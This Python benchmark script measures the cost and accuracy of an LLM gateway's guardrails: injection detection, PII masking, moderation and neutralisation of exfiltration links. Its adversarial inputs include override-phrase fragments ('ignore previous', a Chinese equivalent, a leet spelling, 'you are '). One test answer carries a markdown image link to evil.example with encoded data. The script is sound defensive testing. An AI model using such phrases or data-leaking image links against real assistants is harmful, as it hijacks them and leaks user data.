"""Guardrail cost, linearity under adversarial input, and injection-detector quality.

Run: ``.venv/bin/python benchmarks/rails.py [--requests 300] [--sizes 1,10,100] [--repeat 2]``

1. Added latency per request (p50/p95): the input rails (injection detection + PII masking)
   on a realistic chat request and the output rails on its streamed answer (token-sized
   deltas), against a pass-through baseline doing the same copying without rails, in the
   same run. Target: <= 5 ms p50 added; the input rail alone < 5 ms p50.
2. Adversarial input (issue 17 point 3): each rail entry point (input, context, output
   whole, output streamed in 4-character deltas, moderation, PII masking) on 1, 10 and
   100 KB of inputs built to hit super-linear paths (digit runs, repeated words, one long
   word, unicode, nested brackets, whitespace, mixed Chinese, ``%`` runs, an endless email
   domain, "+" followed by long digit runs, thousands of emails/IPs/cards, random words and
   digits). Time is the minimum of ``--repeat`` runs; the growth ratio 100 KB / 10 KB is
   ~10 when linear and ~100 when quadratic. ``linear`` is true when every ratio < 20.
3. The per-request bound: the input rail at ``max_scan_chars`` on the slowest inputs (the
   time one request may cost at most), and the thread-hop cost against the input rail on
   short texts (what ``RailsHook.offload_min_chars`` is chosen from).
4. The injection detector on the held-out split of the labelled set (rows with
   ``split == "test"``; the classifier is fitted on ``train`` only): TPR/FPR of each layer
   and of the layered detector, overall and per language. Target: TPR >= 0.9 at FPR <= 0.1.
5. Classifier inference: our pure-Python scorer vs scikit-learn's pipeline on the same texts.
6. Issue 18: TPR/FPR per attack family and per benign look-alike family on the held-out
   templates of ``injection_families.jsonl`` (plus the first set's held-out rows), against the
   detector trained on the first set alone (the baseline, refitted in this run); PII recall
   per type and language on ``pii_labelled.jsonl`` and the look-alikes masked (target recall
   >= 0.98, none masked); ingest flags on benign documents; exfiltration-link neutralisation
   cost on an answer with links.

The last line of stdout is one JSON object (per-rail ms at each size, ``linear``, the
ordinary-prompt input-rail p50).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import statistics
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
os.environ.setdefault("LLMOPS_HOME", tempfile.mkdtemp(prefix="llmops-bench-rails-"))

SYSTEM = "You are the support assistant of Acme Corp. Answer from the provided context, cite sources, be concise."
HISTORY = [
    {"role": "user", "content": "Hi, I ordered a standing desk last week and it arrived with a scratch on the top."},
    {"role": "assistant", "content": "I'm sorry to hear that. Could you share your order number and a photo of the damage?"},
]
QUESTIONS = [
    "The order number is 55-1920. You can reach me at maria.garcia@example.com or +1 415 555 0142. "
    "Can I get a replacement top instead of returning the whole desk, and how long would shipping take to Denver?",
    "我上周买的升降桌桌面有划痕，订单号是 55-1920，我的电话是13812345678。可以只换桌面吗？寄到上海需要多久？",
]
ANSWER_EN = (
    "Thanks, Maria! Yes, we can ship a replacement top instead of a full return [1]. Replacement parts ship within "
    "2 business days and take 3-5 days to Denver [2]. I've noted your contact details (maria.garcia@example.com, "
    "+1 415 555 0142) on the ticket. You don't need to send the damaged top back; please keep it until the new one "
    "arrives, then dispose of it or use our free pickup service [3]. Anything else I can help with today?"
)
ANSWER_ZH = (
    "您好！可以只更换桌面，无需退回整张桌子[1]。配件会在2个工作日内发出，寄到上海大约需要3到5天[2]。"
    "我们已在工单中记录您的电话13812345678。旧桌面无需寄回，收到新桌面后可自行处理或预约免费上门回收[3]。还有其他需要帮助的吗？"
)


def deltas(text: str, rng: random.Random) -> list[str]:
    """Token-sized pieces (1-6 characters), as an engine streams them."""
    out, i = [], 0
    while i < len(text):
        k = rng.randint(1, 6)
        out.append(text[i : i + k])
        i += k
    return out


def pct(values: list[float], q: float) -> float:
    values = sorted(values)
    return values[min(len(values) - 1, int(round(q * (len(values) - 1))))]


def bench_latency(n: int) -> dict[str, list[float]]:
    from llmops_ray.safety.rails import get_rails

    rails = get_rails()
    rng = random.Random(0)
    requests = []
    for i in range(n):
        q = QUESTIONS[i % 2]
        messages = [{"role": "system", "content": SYSTEM}, *HISTORY, {"role": "user", "content": q}]
        requests.append((messages, deltas(ANSWER_EN if i % 2 == 0 else ANSWER_ZH, rng)))
    times: dict[str, list[float]] = {"baseline": [], "input": [], "output": [], "total": [], "per_delta_us": []}
    for messages, pieces in requests[:20]:  # warm-up
        rails.check_input(messages)
    for messages, pieces in requests:
        # baseline: what the gateway does anyway (copy the messages, pass deltas through)
        t0 = time.perf_counter()
        copied = [{**m} for m in messages]
        sent = [p for p in pieces]
        t1 = time.perf_counter()
        assert copied and sent
        result = rails.check_input(messages)
        t2 = time.perf_counter()
        guard = rails.output_stream()
        out = [guard.feed(p) for p in pieces]
        out.append(guard.finish())
        t3 = time.perf_counter()
        assert result.blocked is None and "[PHONE]" in "".join(out)
        base = t1 - t0
        times["baseline"].append(base * 1e3)
        times["input"].append((t2 - t1) * 1e3)
        times["output"].append((t3 - t2) * 1e3)
        times["total"].append((t3 - t1) * 1e3)
        times["per_delta_us"].append((t3 - t2) * 1e6 / len(pieces))
    return times


def bench_quality() -> list[tuple[str, str, float, float, int, int]]:
    from llmops_ray.safety.injection import DEFAULT_THRESHOLD, InjectionDetector, load_classifier, load_dataset, pattern_score
    from llmops_ray.safety.normalize import normalize

    detector = InjectionDetector()
    clf = load_classifier()
    rows = load_dataset(split="test")
    layers = {
        "patterns only": lambda t: pattern_score(normalize(t))[0],
        "classifier only": lambda t: clf.predict_proba(normalize(t)),
        "layered (shipped)": lambda t: detector.score(t).score,
    }
    out = []
    for name, fn in layers.items():
        for lang in ("all", "en", "zh"):
            sel = [r for r in rows if lang == "all" or r["lang"] == lang]
            pos = [fn(r["text"]) >= DEFAULT_THRESHOLD for r in sel if r["label"] == 1]
            neg = [fn(r["text"]) >= DEFAULT_THRESHOLD for r in sel if r["label"] == 0]
            out.append((name, lang, sum(pos) / len(pos), sum(neg) / len(neg), len(pos), len(neg)))
    return out


def bench_classifier_speed(repeat: int = 3) -> tuple[float, float]:
    from llmops_ray.safety.injection import fit_sklearn, load_classifier, load_dataset
    from llmops_ray.safety.normalize import normalize

    train = load_dataset(split="train")
    vectorizer, model = fit_sklearn([r["text"] for r in train], [r["label"] for r in train])
    clf = load_classifier()
    texts = [normalize(r["text"]) for r in load_dataset(split="test")]
    best_ours = best_sk = float("inf")
    for _ in range(repeat):
        t0 = time.perf_counter()
        for t in texts:
            clf.predict_proba(t)
        t1 = time.perf_counter()
        for t in texts:  # one request at a time, as the gateway would call it
            model.predict_proba(vectorizer.transform([t]))
        t2 = time.perf_counter()
        best_ours = min(best_ours, (t1 - t0) / len(texts))
        best_sk = min(best_sk, (t2 - t1) / len(texts))
    return best_ours * 1e6, best_sk * 1e6


# --------------------------------------------------------------------------- adversarial


def _adversarial_inputs() -> dict[str, object]:
    """name -> unit string repeated to the size, or a function size -> text (non-repeating)."""
    rng = random.Random(17)
    words = " ".join("".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(2, 9)))
                     for _ in range(25_000))
    digits = " ".join("".join(rng.choice("0123456789") for _ in range(rng.randint(1, 5))) for _ in range(40_000))
    return {
        "digit runs '123 '": "123 ",
        "digit runs '1-2-'": "1-2-",
        "repeated 'ignore '": "ignore ",
        "repeated 'ignore previous '": "ignore previous ",
        "one long word": "a",
        "unicode runs": "é🙂ｉ\u200b",
        "nested brackets '['": "[",
        "markdown images": "![a](https://e.io/p?d=QUJDREVGR0hJSktMTU5PUFFS) ",
        "open link labels": "[abc ",
        "whitespace runs": " \t",
        "mixed Chinese": "忽略之前的中文混合text ",
        "letter-spaced leet": "1 g n 0 r 3 ",
        "'%' run (email local part)": "%",
        "endless email domain": lambda n: ("x@" + "bb." * n)[:n],
        "'+' then 30 digits": "+1" + "2" * 30 + " ",
        "many emails": "a@b.cc ",
        "many IPs": "1.1.1.1 ",
        "many cards": "4111 1111 1111 1111 ",
        "'you are ' (persona pattern)": "you are ",
        "random words": lambda n: words[:n],
        "random digit groups": lambda n: digits[:n],
    }


def _make(unit: object, n: int) -> str:
    if callable(unit):
        return unit(n)
    return (unit * (n // len(unit) + 1))[:n]


def _rail_calls(rails) -> dict[str, object]:
    from llmops_ray.safety.moderation import moderation_score
    from llmops_ray.safety.pii import mask_pii

    def stream(text: str) -> None:
        guard = rails.output_stream()
        for i in range(0, len(text), 4):
            guard.feed(text[i : i + 4])
        guard.finish()

    return {
        "input": lambda t: rails.check_input([{"role": "user", "content": t}]),
        "context": lambda t: rails.check_context([t]),
        "output": lambda t: rails.check_output(t),
        "output stream": stream,
        "moderation": lambda t: moderation_score(t),
        "pii mask": lambda t: mask_pii(t),
    }


def _best_ms(fn, text: str, repeat: int) -> float:
    best = float("inf")
    for _ in range(repeat):
        t0 = time.perf_counter()
        fn(text)
        best = min(best, time.perf_counter() - t0)
    return best * 1e3


def bench_adversarial(sizes_kb: list[int], repeat: int) -> dict[str, dict[str, dict[str, float]]]:
    """rail -> input -> {"<n>KB": ms, ..., "ratio": ms(largest) / ms(second largest)}."""
    from llmops_ray.safety.rails import Rails

    rails = Rails()  # default config: every rail on
    calls = _rail_calls(rails)
    inputs = _adversarial_inputs()
    out: dict[str, dict[str, dict[str, float]]] = {}
    for rail, fn in calls.items():
        out[rail] = {}
        for name, unit in inputs.items():
            row: dict[str, float] = {}
            for kb in sizes_kb:
                row[f"{kb}KB"] = _best_ms(fn, _make(unit, kb * 1000), repeat)
            if len(sizes_kb) >= 2:
                hi, lo = row[f"{sizes_kb[-1]}KB"], row[f"{sizes_kb[-2]}KB"]
                row["ratio"] = hi / max(lo, 1e-3)
            out[rail][name] = row
            print(f"  {rail:<14}{name:<30}" + "".join(f"{row[f'{kb}KB']:>11.2f}" for kb in sizes_kb)
                  + (f"{row[f'{sizes_kb[-1]}KB'] / sizes_kb[-1]:>10.2f}{row.get('ratio', 0):>8.1f}"), flush=True)
    return out


def bench_limit(repeat: int) -> dict[str, float]:
    """The input rail at ``max_scan_chars`` (the most one request can cost) and just past it."""
    from llmops_ray.safety.decision import InputTooLarge
    from llmops_ray.safety.rails import Rails

    rails = Rails()
    limit = rails.config.max_scan_chars
    inputs = _adversarial_inputs()
    out: dict[str, float] = {"max_scan_chars": limit}
    for name in ("random words", "random digit groups", "'+' then 30 digits", "many IPs"):
        text = _make(inputs[name], limit)
        out[name] = _best_ms(lambda t: rails.check_input([{"role": "user", "content": t}]), text, repeat)
    t0 = time.perf_counter()
    try:
        rails.check_input([{"role": "user", "content": "x" * (limit + 1)}])
        out["refused_past_limit"] = 0.0
    except InputTooLarge:
        out["refused_past_limit"] = 1.0
    out["refusal_ms"] = (time.perf_counter() - t0) * 1e3
    return out


def bench_offload() -> dict[str, float]:
    """Median cost of one ``asyncio.to_thread`` hop vs the input rail on short texts."""
    from llmops_ray.safety.rails import get_rails

    rails = get_rails()

    async def hops(n: int = 2000) -> list[float]:
        out = []
        for _ in range(n):
            t0 = time.perf_counter()
            await asyncio.to_thread(len, "x")
            out.append(time.perf_counter() - t0)
        return out

    result = {"thread_hop_us": statistics.median(asyncio.run(hops())) * 1e6}
    text = (QUESTIONS[0] + " ") * 20
    for n in (64, 256, 1024, 4096):
        samples = []
        for _ in range(30):
            t0 = time.perf_counter()
            rails.check_input([{"role": "user", "content": text[:n]}])
            samples.append(time.perf_counter() - t0)
        result[f"input_rail_{n}_chars_us"] = statistics.median(samples) * 1e6
    return result


def bench_issue18() -> dict:
    """Per-family detector quality (vs the first-set-only baseline), PII recall, ingest flags, link cost."""
    from llmops_ray.safety.ingest_flags import flag_chunk
    from llmops_ray.safety.injection import (DATASET_PATH, DEFAULT_THRESHOLD, InjectionDetector, load_dataset,
                                             train_classifier)
    from llmops_ray.safety.links import neutralize_links
    from llmops_ray.safety.quality import injection_by_family, pii_recall, pooled
    from llmops_ray.safety.rails import get_rails

    shipped = InjectionDetector()
    baseline = InjectionDetector(classifier=train_classifier(load_dataset(DATASET_PATH, split="train")))
    ours = injection_by_family(lambda t: shipped.score(t).score, DEFAULT_THRESHOLD)
    base = {(r.family, r.label): r for r in injection_by_family(lambda t: baseline.score(t).score, DEFAULT_THRESHOLD)}
    print(f"\n== Injection detector per family, held-out templates (threshold {DEFAULT_THRESHOLD}); baseline: "
          "classifier fitted on the first set only (patterns as shipped)")
    print(f"{'family':<22}{'kind':<8}{'rows':>6}{'shipped':>10}{'baseline':>10}")
    families = {}
    for r in ours:
        b = base[(r.family, r.label)]
        kind = "TPR" if r.label else "FPR"
        print(f"{r.family:<22}{kind:<8}{r.total:>6}{r.rate:>10.3f}{b.rate:>10.3f}")
        families[f"{r.family}/{kind}"] = round(r.rate, 4)
    tpr, n_pos = pooled(ours, 1)
    fpr, n_neg = pooled(ours, 0)
    tpr_f, _ = pooled(ours, 1, exclude=("first_set",))
    fpr_f, _ = pooled(ours, 0, exclude=("first_set_benign",))
    btpr, _ = pooled(list(base.values()), 1)
    bfpr, _ = pooled(list(base.values()), 0)
    print(f"{'pooled':<22}{'TPR':<8}{n_pos:>6}{tpr:>10.3f}{btpr:>10.3f}")
    print(f"{'pooled':<22}{'FPR':<8}{n_neg:>6}{fpr:>10.3f}{bfpr:>10.3f}")
    print(f"family set only: TPR {tpr_f:.3f}, FPR {fpr_f:.3f} (look-alikes only)")
    ok = tpr >= 0.9 and fpr <= 0.02
    print(f"target: TPR >= 0.90 at FPR <= 0.02 on held-out rows -> {'PASS' if ok else 'FAIL'}")

    report = pii_recall()
    print("\n== PII recall on the labelled set (resources/safety/pii_labelled.jsonl)")
    print(f"{'type':<16}{'found':>7}{'total':>7}{'recall':>9}")
    for key in sorted(report.total):
        print(f"{key:<16}{report.found[key]:>7}{report.total[key]:>7}{report.found[key] / report.total[key]:>9.3f}")
    print(f"overall recall {report.recall:.4f}; look-alikes (orders, dates, versions, ...) masked: "
          f"{len(report.negatives_masked)} of {report.negatives}")
    print(f"target: recall >= 0.98, none masked -> "
          f"{'PASS' if report.recall >= 0.98 and not report.negatives_masked else 'FAIL'}")

    benign_docs = [r["text"] for r in load_dataset(DATASET_PATH) if r["label"] == 0]
    flagged = sum(1 for t in benign_docs if flag_chunk(t))
    attacks = [r["text"] for r in load_dataset(DATASET_PATH) if r["label"] == 1 and r["kind"] == "embedded"]
    caught = sum(1 for t in attacks if flag_chunk(t))
    print(f"\n== Ingest flags: benign rows of the first set flagged {flagged}/{len(benign_docs)}; "
          f"attacks embedded in documents flagged {caught}/{len(attacks)}")

    answer = ANSWER_EN + " See ![chart](https://evil.example/c.png?d=QUJDREVGR0hJSktMTU5PUFFS) and [docs](https://docs.acme.com/x)."
    rails = get_rails()
    samples_on, samples_off = [], []
    off = get_rails({"output": {"links": False}})
    for _ in range(200):
        t0 = time.perf_counter()
        rails.check_output(answer)
        t1 = time.perf_counter()
        off.check_output(answer)
        t2 = time.perf_counter()
        samples_on.append((t1 - t0) * 1e3)
        samples_off.append((t2 - t1) * 1e3)
    t0 = time.perf_counter()
    for _ in range(200):
        neutralize_links(answer, ["acme.com"])
    link_us = (time.perf_counter() - t0) / 200 * 1e6
    on50, off50 = statistics.median(samples_on), statistics.median(samples_off)
    print(f"\n== Output rail on an answer with links ({len(answer)} chars): p50 {on50:.3f} ms with link rail, "
          f"{off50:.3f} ms without (x{on50 / off50:.2f}); neutralize_links alone {link_us:.1f} us")
    return {
        "families": families, "pooled_tpr": round(tpr, 4), "pooled_fpr": round(fpr, 4),
        "baseline_pooled_tpr": round(btpr, 4), "baseline_pooled_fpr": round(bfpr, 4),
        "family_set_tpr": round(tpr_f, 4), "family_set_fpr": round(fpr_f, 4),
        "pii_recall": round(report.recall, 4), "pii_lookalikes_masked": len(report.negatives_masked),
        "pii_spans": sum(report.total[k] for k in report.total if k.startswith("all/")), "pii_lookalikes": report.negatives,
        "ingest_flag_benign": f"{flagged}/{len(benign_docs)}", "ingest_flag_embedded_attacks": f"{caught}/{len(attacks)}",
        "output_with_links_p50_ms": round(on50, 3), "output_without_link_rail_p50_ms": round(off50, 3),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=300)
    parser.add_argument("--sizes", default="1,10,100", help="adversarial input sizes in KB (ratio: last / second last)")
    parser.add_argument("--repeat", type=int, default=2, help="runs per adversarial measurement (the minimum is kept)")
    args = parser.parse_args()
    sizes_kb = [int(x) for x in args.sizes.split(",")]

    from llmops_ray.safety.injection import _CACHE, load_classifier

    t0 = time.perf_counter()
    load_classifier()
    t_fit = time.perf_counter() - t0
    _CACHE.clear()
    t0 = time.perf_counter()
    load_classifier()
    t_cached = time.perf_counter() - t0

    times = bench_latency(args.requests)
    print(f"\n== Added latency per request ({args.requests} requests: system + 2-turn history + question with PII,"
          f" EN/ZH alternating; streamed answer of ~{len(ANSWER_EN)}/{len(ANSWER_ZH)} chars in 1-6 char deltas)")
    print(f"{'path':<40}{'p50 ms':>10}{'p95 ms':>10}{'x baseline p50':>16}")
    base50 = statistics.median(times["baseline"])
    for key, label in (("baseline", "pass-through baseline (no rails)"), ("input", "input rails (injection + PII)"),
                       ("output", "output rails (stream PII + moderation)"), ("total", "rails total (added)")):
        p50, p95 = pct(times[key], 0.5), pct(times[key], 0.95)
        print(f"{label:<40}{p50:>10.3f}{p95:>10.3f}{p50 / base50:>16.0f}")
    print(f"{'output rails per delta (us)':<40}{pct(times['per_delta_us'], 0.5):>10.1f}{pct(times['per_delta_us'], 0.95):>10.1f}")
    total50 = pct(times["total"], 0.5)
    print(f"target: rails total p50 <= 5 ms -> {'PASS' if total50 <= 5 else 'FAIL'} ({total50:.3f} ms)")
    input50 = pct(times["input"], 0.5)
    print(f"target: input rail p50 < 5 ms on ordinary prompts -> {'PASS' if input50 < 5 else 'FAIL'} ({input50:.3f} ms)")

    from llmops_ray.safety.injection import DEFAULT_THRESHOLD

    print(f"\n== Injection detector on the held-out split (threshold {DEFAULT_THRESHOLD})")
    print(f"{'detector':<20}{'lang':<6}{'TPR':>8}{'FPR':>8}{'pos':>6}{'neg':>6}")
    rows = bench_quality()
    for name, lang, tpr, fpr, npos, nneg in rows:
        print(f"{name:<20}{lang:<6}{tpr:>8.3f}{fpr:>8.3f}{npos:>6}{nneg:>6}")
    shipped = next(r for r in rows if r[0] == "layered (shipped)" and r[1] == "all")
    ok = shipped[2] >= 0.9 and shipped[3] <= 0.1
    print(f"target: TPR >= 0.9 at FPR <= 0.1 -> {'PASS' if ok else 'FAIL'} (TPR {shipped[2]:.3f}, FPR {shipped[3]:.3f})")

    ours, sk = bench_classifier_speed()
    print("\n== Classifier inference per text (held-out texts, one at a time)")
    print(f"{'implementation':<40}{'us/text':>10}{'ratio':>10}")
    print(f"{'scikit-learn pipeline (baseline)':<40}{sk:>10.1f}{1.0:>10.2f}")
    print(f"{'pure-Python weights (shipped)':<40}{ours:>10.1f}{ours / sk:>10.2f}")
    print(f"\nclassifier first use (fit + cache write): {t_fit:.2f} s; later processes (cached JSON): {t_cached * 1e3:.0f} ms")

    print(f"\n== Adversarial input: ms per call (min of {args.repeat}); growth ratio {sizes_kb[-1]}KB/{sizes_kb[-2]}KB"
          f" (linear ~{sizes_kb[-1] / sizes_kb[-2]:.0f}, quadratic ~{(sizes_kb[-1] / sizes_kb[-2]) ** 2:.0f})")
    print(f"  {'rail':<14}{'input':<30}" + "".join(f"{str(kb) + ' KB':>11}" for kb in sizes_kb)
          + f"{'ms/KB':>10}{'ratio':>8}")
    adversarial = bench_adversarial(sizes_kb, args.repeat)
    linear_bound = 2 * sizes_kb[-1] / sizes_kb[-2]
    worst = max((row["ratio"], rail, name) for rail, rows in adversarial.items() for name, row in rows.items())
    linear = worst[0] < linear_bound
    print(f"worst growth ratio {worst[0]:.1f} ({worst[1]}, {worst[2]}); linear (every ratio < {linear_bound:.0f}): {linear}")
    for rail, rows in adversarial.items():
        slowest = max(rows.items(), key=lambda kv: kv[1][f"{sizes_kb[-1]}KB"])
        print(f"  {rail:<14} slowest: {slowest[0]:<30} {slowest[1][f'{sizes_kb[-1]}KB'] / sizes_kb[-1]:.2f} ms/KB")

    limit = bench_limit(args.repeat)
    print(f"\n== Per-request bound: input rail at max_scan_chars = {int(limit['max_scan_chars'])} characters")
    for name, ms in limit.items():
        if name not in ("max_scan_chars", "refused_past_limit", "refusal_ms"):
            print(f"  {name:<30}{ms:>10.1f} ms")
    print(f"  one character more: refused with 413 input_too_large_for_rails: {bool(limit['refused_past_limit'])}"
          f" (in {limit['refusal_ms']:.2f} ms, before any scanning)")

    offload = bench_offload()
    print("\n== Event-loop offload threshold (RailsHook.offload_min_chars)")
    for name, us in offload.items():
        print(f"  {name:<30}{us:>10.1f} us")

    issue18 = bench_issue18()

    print(json.dumps({
        "issue18": issue18,
        "input_rail_p50_ms": round(pct(times["input"], 0.5), 3),
        "rails_total_p50_ms": round(total50, 3),
        "adversarial_ms": {rail: {name: {k: round(v, 3) for k, v in row.items()} for name, row in rows.items()}
                           for rail, rows in adversarial.items()},
        "worst_ratio": round(worst[0], 2),
        "linear": linear,
        "limit_ms": {k: round(v, 2) for k, v in limit.items()},
        "offload_us": {k: round(v, 1) for k, v in offload.items()},
    }, ensure_ascii=False))


if __name__ == "__main__":
    main()
